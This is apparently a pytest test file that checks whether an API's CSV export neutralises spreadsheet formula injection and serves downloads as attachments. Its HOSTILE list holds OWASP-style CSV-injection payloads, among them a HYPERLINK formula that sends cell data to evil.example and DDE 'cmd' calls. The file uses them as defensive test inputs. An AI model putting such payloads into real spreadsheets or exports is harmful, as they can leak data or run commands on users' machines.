"""The API's CSV: cells a spreadsheet would run as formulas are neutralised; downloads are files."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from api.renderers import LatticeCSVRenderer
from tests.factories import make_institution, make_membership, make_network

pytestmark = pytest.mark.django_db

# What spreadsheet programs read as the start of a formula (OWASP, "CSV Injection").
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.fixture
def api():
    return APIClient()


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_starts_a_formula_gets_a_leading_quote(api, value):
    make_institution(name=value, slug="hostile-bank")
    response = api.get("/api/v1/institutions/hostile-bank/?format=csv")
    assert response.status_code == 200
    (row,) = rows(response)
    assert row["name"] == "'" + value
    assert row["slug"] == "hostile-bank"  # ordinary cells unchanged


def test_nested_cells_of_a_list_are_neutralised_too(api):
    network = make_network(slug="net", acronym="NET")
    make_membership(
        network=network,
        member_institution=make_institution(name="@Bank", slug="at-bank", acronym="-AB"),
    )
    response = api.get("/api/v1/networks/net/members/?format=csv")
    assert response.status_code == 200
    (row,) = rows(response)
    assert row["member_institution.name"] == "'@Bank"
    assert row["member_institution.slug"] == "at-bank"


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_escaped():
    """Typed numbers cannot be formulas; every text cell is treated alike, as OWASP asks."""
    data = [{"count": -5, "share": -0.25, "phone": "+41 22 730 11 11", "code": "-5", "ok": "a-b"}]
    content = LatticeCSVRenderer().render(data, renderer_context={}).decode()
    (row,) = list(csv.DictReader(io.StringIO(content)))
    assert row == {
        "count": "-5",
        "share": "-0.25",
        "phone": "'+41 22 730 11 11",
        "code": "'-5",
        "ok": "a-b",
    }


def test_text_cells_are_quoted_so_a_semicolon_cannot_start_a_new_cell():
    """Excel in a locale whose list separator is `;` splits unquoted cells there."""
    content = LatticeCSVRenderer().render([{"name": "Bank;=1+1", "n": 3}], renderer_context={})
    assert content.decode().splitlines() == ['"name","n"', '"Bank;=1+1",3']


@pytest.mark.parametrize(
    ("url", "filename"),
    [
        ("/api/v1/institutions/?format=csv", "lattice-institutions.csv"),
        ("/api/v1/networks/net/members/?format=csv", "lattice-networks-net-members.csv"),
        ("/api/v1/networks/net/graph/?format=csv", "lattice-networks-net-graph.csv"),
        ("/api/v1/networks/?format=csv&as_of=yesterday", "lattice-networks.csv"),
    ],
)
def test_a_csv_download_is_an_attachment_with_a_file_name(api, url, filename):
    make_network(slug="net")
    response = api.get(url)
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


def test_json_is_not_an_attachment(api):
    response = api.get("/api/v1/institutions/")
    assert response.status_code == 200
    assert "Content-Disposition" not in response
